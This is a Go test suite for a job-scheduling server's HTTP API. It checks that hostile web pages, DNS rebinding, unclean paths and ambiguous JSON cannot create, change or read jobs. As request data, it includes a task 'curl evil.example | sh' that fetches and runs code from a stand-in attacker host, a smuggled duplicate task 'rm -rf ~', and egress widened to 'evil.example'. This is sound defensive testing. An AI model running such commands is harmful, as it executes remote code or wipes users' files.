package api_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/drydockhq/drydock"
	"github.com/drydockhq/drydock/api"
)

// request is one request of the boundary tests, sent as a browser (or a
// script) would: Host, Origin and Sec-Fetch-Site as given.
type request struct {
	method, path, contentType, body string
	host, origin, fetchSite, token  string
}

func (lb *liveBundle) raw(t *testing.T, rq request) (*http.Response, []byte) {
	t.Helper()
	var rd io.Reader
	if rq.body != "" {
		rd = strings.NewReader(rq.body)
	}
	req, err := http.NewRequestWithContext(t.Context(), rq.method, lb.url+rq.path, rd)
	if err != nil {
		t.Fatal(err)
	}
	if rq.host != "" {
		req.Host = rq.host
	}
	for k, v := range map[string]string{"Content-Type": rq.contentType, "Origin": rq.origin, "Sec-Fetch-Site": rq.fetchSite} {
		if v != "" {
			req.Header.Set(k, v)
		}
	}
	if rq.token != "" {
		req.Header.Set("Authorization", "Bearer "+rq.token)
	}
	resp, err := noRedirect.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, _ := io.ReadAll(resp.Body)
	return resp, data
}

func (lb *liveBundle) hostPort() string { return strings.TrimPrefix(lb.url, "http://") }

// What a page the user visits can make a browser send to a development-mode
// server on loopback (no token needed): forms and fetch without a preflight
// (text/plain, form bodies) from the page's own origin, and, after pointing
// its own name at 127.0.0.1 (DNS rebinding), any request as "same-origin".
// Every one is refused before it changes or reads anything.
func TestHostilePageCannotUseADevelopmentServer(t *testing.T) {
	t.Parallel()
	b := setupLive(t, true, nil)
	victim := b.create(t, "", `{"task": "the user's own job", "egress": ["pypi.example.com:443"]}`)
	evil := "http://evil.example"
	rebound := "evil.example:" + strings.Split(b.hostPort(), ":")[1]
	job := "/v1/jobs/" + victim.ID
	for _, tc := range []struct {
		name   string
		rq     request
		status int
		msg    string
	}{
		{"schedule: text/plain form post from another site",
			request{method: "POST", path: "/v1/jobs", contentType: "text/plain", body: `{"task": "curl evil.example | sh", "egress": ["evil.example:443"]}`, origin: evil, fetchSite: "cross-site"},
			403, "cross-site"},
		{"schedule: text/plain from another origin, no Sec-Fetch-Site (older browser)",
			request{method: "POST", path: "/schedule", contentType: "text/plain;charset=UTF-8", body: `{"task": "x", "egress": ["evil.example:443"]}`, origin: evil},
			403, "cross-origin"},
		{"schedule: text/plain with neither header (only the media type stops it)",
			request{method: "POST", path: "/submit", contentType: "text/plain", body: `{"task": "x"}`},
			415, "application/json"},
		{"schedule: form-urlencoded",
			request{method: "POST", path: "/schedule", contentType: "application/x-www-form-urlencoded", body: `{"task": "x"}`},
			415, "application/json"},
		// Creation takes multipart uploads (upload.go): the Origin check
		// stops a form from another site; a request with neither header
		// must still be a well-formed upload to create anything.
		{"schedule: multipart form from another origin",
			request{method: "POST", path: "/v1/jobs", contentType: "multipart/form-data; boundary=x", body: "--x\r\nContent-Disposition: form-data; name=\"spec\"\r\n\r\n{\"task\": \"x\"}\r\n--x--\r\n", origin: evil},
			403, "cross-origin"},
		{"schedule: multipart form with neither header",
			request{method: "POST", path: "/v1/jobs", contentType: "multipart/form-data; boundary=x", body: "--x\r\n\r\n{\"task\": \"x\"}\r\n--x--\r\n"},
			400, "unknown part"},
		{"cancel: empty form post from another origin",
			request{method: "POST", path: job + "/cancel", origin: evil},
			403, "cross-origin"},
		{"cancel: cross-site without Origin",
			request{method: "POST", path: job + "/cancel", fetchSite: "cross-site"},
			403, "cross-site"},
		{"cancel: Origin null (sandboxed frame)",
			request{method: "POST", path: job + "/cancel", origin: "null"},
			403, "cross-origin"},
		{"egress: widened from another origin",
			request{method: "PUT", path: job + "/egress", contentType: "application/json", body: `{"egress": ["evil.example:443"]}`, origin: evil},
			403, "cross-origin"},
		{"live link from another origin",
			request{method: "POST", path: job + "/desktop/link", origin: evil},
			403, "cross-origin"},
		{"rebinding: schedule as same-origin",
			request{method: "POST", path: "/v1/jobs", contentType: "application/json", body: `{"task": "x", "egress": ["evil.example:443"]}`, host: rebound, origin: "http://" + rebound, fetchSite: "same-origin"},
			421, "--public-url"},
		{"rebinding: cancel",
			request{method: "POST", path: job + "/cancel", host: rebound, origin: "http://" + rebound},
			421, "--public-url"},
		{"rebinding: read the job list",
			request{method: "GET", path: "/v1/jobs", host: rebound},
			421, "--public-url"},
		{"rebinding: read a job's events",
			request{method: "GET", path: job + "/events", host: rebound},
			421, "--public-url"},
		{"rebinding: download the workspace",
			request{method: "GET", path: job + "/artifact.tar.gz", host: rebound},
			421, "--public-url"},
		{"rebinding: the web UI",
			request{method: "GET", path: "/", host: rebound},
			421, "--public-url"},
		{"rebinding: the desktop WebSocket",
			request{method: "GET", path: "/jobs/" + victim.ID + "/desktop/websockify", host: rebound},
			421, "--public-url"},
		{"rebinding: Jupyter",
			request{method: "POST", path: "/jobs/" + victim.ID + "/jupyter/api/kernels", contentType: "text/plain", body: "{}", host: rebound},
			421, "--public-url"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, data := b.raw(t, tc.rq)
			if resp.StatusCode != tc.status || resp.Header.Get("Content-Type") != "application/json" {
				t.Fatalf("%d %s %s, want %d JSON", resp.StatusCode, resp.Header.Get("Content-Type"), data, tc.status)
			}
			errorCode(t, data)
			if !strings.Contains(string(data), tc.msg) {
				t.Errorf("message %s does not mention %q", data, tc.msg)
			}
			if strings.Contains(string(data), "evil.example/") {
				t.Errorf("the answer links to the attacker's host: %s", data)
			}
		})
	}
	jobs, _, err := b.store.ListJobs(t.Context(), drydock.JobFilter{})
	if err != nil || len(jobs) != 1 {
		t.Fatalf("the hostile requests stored jobs: %d (%v)", len(jobs), err)
	}
	got, err := b.store.GetJob(t.Context(), victim.ID)
	if err != nil || got.Status != drydock.StatusPending || got.CancelRequested || !slices.Equal(got.Egress, []string{"pypi.example.com:443"}) {
		t.Fatalf("the user's job was changed: %+v (%v)", got, err)
	}
}

// The server's own pages, scripts and the CLI keep working: own origins,
// loopback names, no Origin at all, and PublicURL's host.
func TestOwnPagesAndClientsPassTheBoundary(t *testing.T) {
	t.Parallel()
	b := setupLive(t, true, func(c *api.Config) { c.PublicURL = "https://drydock.example" })
	hp := b.hostPort()
	port := strings.Split(hp, ":")[1]
	for _, tc := range []struct {
		name string
		rq   request
	}{
		{"the UI on 127.0.0.1", request{host: hp, origin: "http://" + hp, fetchSite: "same-origin"}},
		{"the UI on localhost", request{host: "localhost:" + port, origin: "http://localhost:" + port, fetchSite: "same-origin"}},
		{"the UI on a .localhost name", request{host: "ui.localhost:" + port, origin: "http://ui.localhost:" + port}},
		{"the UI on [::1]", request{host: "[::1]:" + port, origin: "http://[::1]:" + port}},
		{"the UI behind a TLS proxy on the public host", request{host: "drydock.example", origin: "https://drydock.example", fetchSite: "same-origin"}},
		{"the UI on PublicURL from another loopback name", request{host: hp, origin: "https://drydock.example"}},
		{"curl and the CLI: no Origin", request{host: hp}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rq := tc.rq
			rq.method, rq.path, rq.contentType, rq.body = "POST", "/v1/jobs", "application/json; charset=utf-8", `{"task": "mine"}`
			resp, data := b.raw(t, rq)
			if resp.StatusCode != http.StatusCreated {
				t.Fatalf("schedule: %d %s", resp.StatusCode, data)
			}
			var j drydock.Job
			if err := json.Unmarshal(data, &j); err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(j.StatusURL, "https://drydock.example/status/") || resp.Header.Get("Location") != j.StatusURL {
				t.Errorf("links not from PublicURL: %s, Location %s", j.StatusURL, resp.Header.Get("Location"))
			}
			// An empty-bodied POST needs no Content-Type.
			rq.method, rq.path, rq.contentType, rq.body = "POST", "/v1/jobs/"+j.ID+"/cancel", "", ""
			if resp, data := b.raw(t, rq); resp.StatusCode != http.StatusAccepted {
				t.Errorf("cancel: %d %s", resp.StatusCode, data)
			}
		})
	}
}

// Without PublicURL, links are built from the Host the boundary accepted.
func TestLinksNameTheAcceptedHost(t *testing.T) {
	t.Parallel()
	b := setupLive(t, true, nil)
	port := strings.Split(b.hostPort(), ":")[1]
	resp, data := b.raw(t, request{method: "POST", path: "/schedule", contentType: "application/json", body: `{"task": "x", "profile": "desktop"}`, host: "localhost:" + port})
	var j drydock.Job
	if resp.StatusCode != http.StatusCreated || json.Unmarshal(data, &j) != nil {
		t.Fatalf("schedule: %d %s", resp.StatusCode, data)
	}
	base := "http://localhost:" + port + "/"
	for _, u := range []string{j.StatusURL, j.EventsURL, j.VNCURL, resp.Header.Get("Location")} {
		if !strings.HasPrefix(u, base) {
			t.Errorf("link %q does not start with %s", u, base)
		}
	}
}

// On a loopback server, which Host headers are served: loopback names and
// addresses in any spelling a browser resolves locally, and the configured
// URLs' hosts; nothing a DNS name the attacker owns can be.
func TestLoopbackServerServesOnlyLoopbackHosts(t *testing.T) {
	t.Parallel()
	b := setupLive(t, true, func(c *api.Config) {
		c.PublicURL, c.LiveURL = "https://drydock.example/", "http://live.drydock.example:9000"
	})
	for host, served := range map[string]bool{
		"localhost": true, "localhost:8080": true, "LocalHost:1": true, "localhost.:8080": true, "ui.localhost:8080": true,
		"127.0.0.1": true, "127.0.0.1:8080": true, "127.9.8.7:80": true, "[::1]:8080": true, "[::1]": true, "[::ffff:127.0.0.1]:8080": true,
		"drydock.example": true, "drydock.example:443": true, "live.drydock.example:9000": true, "LIVE.drydock.example": true,
		"evil.example:8080": false, "evil.example": false, "localhost.evil.example": false, "127.0.0.1.nip.io:8080": false,
		"drydock.example.evil.example": false, "localhostx:8080": false, "10.0.0.1:8080": false, "192.168.1.2": false,
		"0.0.0.0:8080": false, "[::]:8080": false, "2130706433:8080": false, "": false,
	} {
		req := httptest.NewRequest("GET", "/healthz", nil)
		req.Host = host
		rec := httptest.NewRecorder()
		b.srv.ServeHTTP(rec, req)
		if got := rec.Code == http.StatusOK; got != served {
			t.Errorf("Host %q: %d %s, want served=%v", host, rec.Code, rec.Body, served)
		}
		if !served && rec.Code != http.StatusMisdirectedRequest {
			t.Errorf("Host %q: %d, want 421", host, rec.Code)
		}
	}
}

// A server with tokens answers any Host (it is reached by whatever name its
// operator gave it, and a token is needed), but refuses cross-site writes
// even with a valid token: a browser may hold one (the UI's storage).
func TestServerWithTokensRefusesCrossSiteWrites(t *testing.T) {
	t.Parallel()
	b := setupLive(t, false, nil)
	create := request{method: "POST", path: "/v1/jobs", contentType: "application/json", body: `{"task": "x"}`, token: b.alice}
	for _, tc := range []struct {
		name   string
		edit   func(*request)
		status int
	}{
		{"any host name", func(r *request) { r.host = "drydock.internal:8080" }, 201},
		{"own origin on that host", func(r *request) { r.host, r.origin = "drydock.internal:8080", "http://drydock.internal:8080" }, 201},
		{"foreign origin", func(r *request) { r.origin = "https://evil.example" }, 403},
		{"origin on another port of the host", func(r *request) { r.origin = "http://" + strings.Split(b.hostPort(), ":")[0] + ":1" }, 403},
		{"cross-site", func(r *request) { r.fetchSite = "cross-site" }, 403},
		{"two origins", func(r *request) { r.origin = "http://" + b.hostPort() + ", https://evil.example" }, 403},
	} {
		rq := create
		tc.edit(&rq)
		if resp, data := b.raw(t, rq); resp.StatusCode != tc.status {
			t.Errorf("%s: %d %s, want %d", tc.name, resp.StatusCode, data, tc.status)
		}
	}
}

// Jupyter's pages send their own bodies (any type) to Jupyter's API with
// the live origin; they pass untouched. Another origin's do not.
func TestJupyterProxyTakesItsPagesRequestsOnly(t *testing.T) {
	t.Parallel()
	b := setupLive(t, false, func(c *api.Config) { c.LiveURL = "http://live.test:1234" })
	jup := startJupyterStandIn(t)
	j := b.runningJob(t, b.alice, `{"task": "x"}`, jup.sandbox("sb-jup-origin"))
	path := "/jobs/" + j.ID + "/jupyter/api/contents/notes.txt"
	for _, tc := range []struct {
		origin string
		status int
	}{
		{"http://live.test:1234", 200},
		{"http://" + b.hostPort(), 200},
		{"https://evil.example", 403},
	} {
		resp, data := b.raw(t, request{method: "PUT", path: path, contentType: "text/plain", body: "hello " + tc.origin, origin: tc.origin, token: b.alice})
		if resp.StatusCode != tc.status {
			t.Errorf("PUT from %s: %d %s, want %d", tc.origin, resp.StatusCode, data, tc.status)
		}
	}
	var bodies []string
	for _, r := range jup.requests() {
		bodies = append(bodies, r.Body)
	}
	want := []string{"hello http://live.test:1234", "hello http://" + b.hostPort()}
	if !slices.Equal(bodies, want) {
		t.Errorf("Jupyter got %q, want %q", bodies, want)
	}
}

// A request that is not in the mux's canonical form used to get an HTML
// redirect to whatever route the cleaned path names; now a JSON 400.
func TestUncleanPathsAreRefusedAsJSON(t *testing.T) {
	t.Parallel()
	b := setupLive(t, true, nil)
	j := b.create(t, "", `{"task": "x"}`)
	for _, p := range []string{
		"/v1/jobs/x/../../healthz", "/v1/jobs/../jobs", "//v1//jobs", "/v1/./jobs", "/v1/jobs/",
		"/status/..%2f..%2fhealthz", "/ui/../go.mod", "/ui/%2e%2e/web.go", "/jobs/" + j.ID + "/jupyter/a/../../../v1/jobs",
		"/v1/jobs/" + j.ID + "/files/a/%2e%2e/%2e%2e/x",
	} {
		for _, method := range []string{"GET", "POST"} {
			resp, data := b.raw(t, request{method: method, path: p})
			if p == "/v1/jobs/" && resp.StatusCode == http.StatusNotFound {
				continue // clean: the mux's own JSON 404
			}
			if resp.StatusCode != http.StatusBadRequest || resp.Header.Get("Content-Type") != "application/json" || resp.Header.Get("Location") != "" {
				t.Errorf("%s %s: %d %s (Location %q), want a JSON 400", method, p, resp.StatusCode, data, resp.Header.Get("Location"))
				continue
			}
			if code := errorCode(t, data); code != "invalid" {
				t.Errorf("%s %s: code %s", method, p, code)
			}
		}
	}
}

// encoding/json keeps the last of duplicate keys and turns invalid UTF-8
// into U+FFFD; the API refuses both, so that no body means two things.
func TestAmbiguousJSONIsRefused(t *testing.T) {
	t.Parallel()
	b := setupLive(t, true, nil)
	j := b.create(t, "", `{"task": "x", "egress": ["pypi.example.com:443"]}`)
	for _, tc := range []struct {
		name, method, path, body string
		msg                      []string
	}{
		{"duplicate task", "POST", "/v1/jobs", `{"task": "read the docs", "task": "rm -rf ~"}`, []string{`"task"`, "duplicate"}},
		{"task and Task (one struct field)", "POST", "/schedule", `{"task": "a", "Task": "b"}`, []string{`"Task"`}},
		{"duplicate egress", "POST", "/v1/jobs", `{"task": "x", "egress": [], "egress": ["*.example.com"]}`, []string{`"egress"`}},
		{"duplicate metadata key", "POST", "/v1/jobs", `{"task": "x", "metadata": {"team": "a", "team": "b"}}`, []string{`"team"`, `"metadata"`}},
		{"duplicate secret", "POST", "/v1/jobs", `{"task": "x", "secrets": {"API_KEY": "aaaaaaaaaa", "API_KEY": "bbbbbbbbbb"}}`, []string{`"API_KEY"`, `"secrets"`}},
		{"duplicate egress on PUT", "PUT", "/v1/jobs/" + j.ID + "/egress", `{"egress": ["pypi.example.com:443"], "egress": ["evil.example:443"]}`, []string{`"egress"`}},
		{"duplicate in a link request", "POST", "/v1/jobs/" + j.ID + "/desktop/link", `{"control": false, "control": true}`, []string{`"control"`}},
		{"invalid UTF-8 in task", "POST", "/v1/jobs", "{\"task\": \"a\xffb\"}", []string{"UTF-8", "byte 11"}},
		{"invalid UTF-8 in a metadata key", "POST", "/v1/jobs", "{\"task\": \"x\", \"metadata\": {\"\xc3\": \"y\"}}", []string{"UTF-8"}},
		{"a UTF-16 surrogate half", "POST", "/v1/jobs", "{\"task\": \"\xed\xa0\x80\"}", []string{"UTF-8"}},
	} {
		resp, data := b.send(t, tc.method, tc.path, "", tc.body)
		if resp.StatusCode != http.StatusBadRequest || errorCode(t, data) != "invalid" {
			t.Errorf("%s: %d %s, want 400", tc.name, resp.StatusCode, data)
			continue
		}
		for _, m := range tc.msg {
			if msg := errorMessage(t, data); !strings.Contains(msg, m) {
				t.Errorf("%s: message %q does not mention %s", tc.name, msg, m)
			}
		}
	}
	// Keys of a map differ by case; the same key in two objects is fine.
	for _, body := range []string{
		`{"task": "x", "metadata": {"team": "a", "Team": "b"}}`,
		`{"task": "x", "metadata": {"a": "1"}, "secrets": {"a": "aaaaaaaaaa"}}`,
		`{"task": "ünïcödé ✓ 🚀"}`,
	} {
		if resp, data := b.send(t, "POST", "/v1/jobs", "", body); resp.StatusCode != http.StatusCreated && !strings.Contains(string(data), "secrets key") {
			t.Errorf("%s: %d %s", body, resp.StatusCode, data)
		}
	}
	if jobs, _, _ := b.store.ListJobs(t.Context(), drydock.JobFilter{}); len(jobs) > 3 {
		t.Errorf("refused bodies stored jobs: %d", len(jobs))
	}
	got, _ := b.store.GetJob(t.Context(), j.ID)
	if !slices.Equal(got.Egress, []string{"pypi.example.com:443"}) {
		t.Errorf("egress changed by a refused body: %v", got.Egress)
	}
}

// Request bodies are JSON, declared as such; a charset other than UTF-8 is
// refused, and an empty body needs no type.
func TestRequestBodiesMustBeDeclaredJSON(t *testing.T) {
	t.Parallel()
	b := setupLive(t, true, nil)
	for ct, want := range map[string]int{
		"application/json": 201, "application/json; charset=utf-8": 201, "Application/JSON;charset=UTF-8": 201,
		"": 415, "text/plain": 415, "text/json": 415, "application/jsonx": 415, "application/json; charset=iso-8859-1": 415,
		"application/x-www-form-urlencoded": 415, "application/json;;": 415,
		// Creation also takes uploads; this body is not a multipart one.
		"multipart/form-data; boundary=x": 400,
	} {
		resp, data := b.raw(t, request{method: "POST", path: "/v1/jobs", contentType: ct, body: `{"task": "x"}`})
		if resp.StatusCode != want {
			t.Errorf("Content-Type %q: %d %s, want %d", ct, resp.StatusCode, data, want)
		}
		if want == 415 && errorCode(t, data) != "unsupported_media_type" {
			t.Errorf("Content-Type %q: %s", ct, data)
		}
	}
	// A body of unknown length (chunked) is checked as well, and an empty
	// chunked body needs no type.
	j := b.create(t, "", `{"task": "x"}`)
	for _, tc := range []struct {
		body string
		want int
	}{{`{"task": "x"}`, 415}, {"", 202}} {
		req, _ := http.NewRequestWithContext(t.Context(), "POST", b.url+"/v1/jobs/"+j.ID+"/cancel", io.MultiReader(strings.NewReader(tc.body)))
		req.ContentLength = -1
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != tc.want {
			t.Errorf("chunked body %q: %d, want %d", tc.body, resp.StatusCode, tc.want)
		}
	}
}

// RFC 9110 makes the authentication scheme's name case-insensitive.
func TestBearerSchemeIsCaseInsensitive(t *testing.T) {
	t.Parallel()
	b := setupLive(t, false, nil)
	for h, want := range map[string]int{
		"Bearer " + b.alice: 200, "bearer " + b.alice: 200, "BEARER " + b.alice: 200, "bEaReR  " + b.alice + " ": 200,
		"Bearer" + b.alice: 401, "Basic " + b.alice: 401, "bearer ": 401, "bearer": 401, "Bearer x" + b.alice: 401,
	} {
		req, _ := http.NewRequestWithContext(t.Context(), "GET", b.url+"/v1/jobs", nil)
		req.Header.Set("Authorization", h)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("Authorization %q: %d, want %d", strings.ReplaceAll(h, b.alice, "<token>"), resp.StatusCode, want)
		}
	}
}

// An empty PUT .../egress says what the route wants, not what /v1/jobs does.
func TestEmptyEgressBodyNamesTheEgressList(t *testing.T) {
	t.Parallel()
	b := setupLive(t, true, nil)
	j := b.create(t, "", `{"task": "x"}`)
	resp, data := b.send(t, "PUT", "/v1/jobs/"+j.ID+"/egress", "", "")
	if msg := errorMessage(t, data); resp.StatusCode != http.StatusBadRequest || !strings.Contains(msg, `{"egress": [`) || strings.Contains(msg, "task") {
		t.Errorf("%d %s", resp.StatusCode, data)
	}
}

func errorMessage(t *testing.T, data []byte) string {
	t.Helper()
	var e drydock.ErrorBody
	if err := json.Unmarshal(data, &e); err != nil {
		t.Fatalf("error body is not JSON: %q", data)
	}
	return e.Error.Message
}
